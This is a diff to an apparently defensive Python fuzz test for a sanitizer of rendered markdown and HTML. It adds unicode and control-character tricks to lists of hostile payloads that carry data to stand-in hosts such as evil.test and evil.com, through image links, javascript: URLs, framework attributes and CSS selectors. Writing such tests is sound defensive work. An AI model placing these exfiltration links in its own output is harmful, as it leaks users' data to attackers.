@@ -29,7 +29,7 @@ PIECES = st.lists(
         [
             NAME, NAME, NAME, CARD, "https:", "//", "/", "evil.test", "ok.test", "evil.com", "evil.agency", "?q=", "a b", " ", " ", "\n", "\n\n", "![x](", "[x](",
             "](", ")", "(", "<", ">", "<img src=", "<a href=", "<p alt=", "<script>", "</script>", "<style>", '"', "'", "`", "=", "```\n", "\n```\n",
-            "~~~\n", "&#58;", "&sol;", "\\", "\\/", "%2F", "%40", "@", ".", ":", "[x]: ", "srcset=", "style=", "url(", "<https://", "www.", "\t", "\v", "mailto:",
+            "~~~\n", "&#58;", "&sol;", "\\", "\\/", "%2F", "%40", "@", ".", ":", "[x]: ", "srcset=", "style=", "url(", "<https://", "www.", "\t", "\v", "~", "\u20ac", "&Tab;", "\U000e0041", "mailto:",
             "javascript:", "data:,", "\u200b", "\u3002", "\uff0f", "<!--", "-->", "- ", "> ", "    ", "x", "{", "}", "<base href=", "</a>", "<b>", ",", "#",
         ]
     ),
@@ -109,7 +109,7 @@ HOSTILE = [
     "javascript:f('mailto:{}')", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
     "<div v-on:click=\"f('{}')\">", "<div ng-init=\"f('{}')\">", "<div x-data=\"f('{}')\">", "<div hx-vals='{}' hx-get='https://evil.test/'>",
     "![x](https://evil.test/ {})", "![x]( https://evil.test/\t{})", "[x](https://evil.test/\n{})", "[x](https://evil.test/ a {} b)", "![x](https://evil.test/\v{})",
-    "![x](https://evil.test/ " + "y " * 2000 + "{})", "evil.agency/{}", "evil.photos?q={}", "evil.chat:443/{}", "{}.evil.agency", "{}@evil.agency", "{}@203.0.113.9", "{}evil.agency", "see x{}.agency",
+    "![x](https://evil.test/ " + "y " * 2000 + "{})", "evil.agency/{}", "evil.photos?q={}", "evil.chat:443/{}", "{}.evil.agency", "{}@evil.agency", "{}@203.0.113.9", "{}evil.agency", "see x{}.agency", "{}\u20acx.evil.com", "{}\U0001f600x.evil.com", "{}~x.evil.com/p", "{}\U000e0041x.evil.com", "{}.evil.co&Tab;x", "{}\x00x.evil.com",
     "<style>p[data-n^='A']{{background:url(https://evil.test/A)}}</style><p data-n='{}'>", "<link href='//evil.test' rel=stylesheet><p title='{}'>",
 ]  # fmt: skip
 
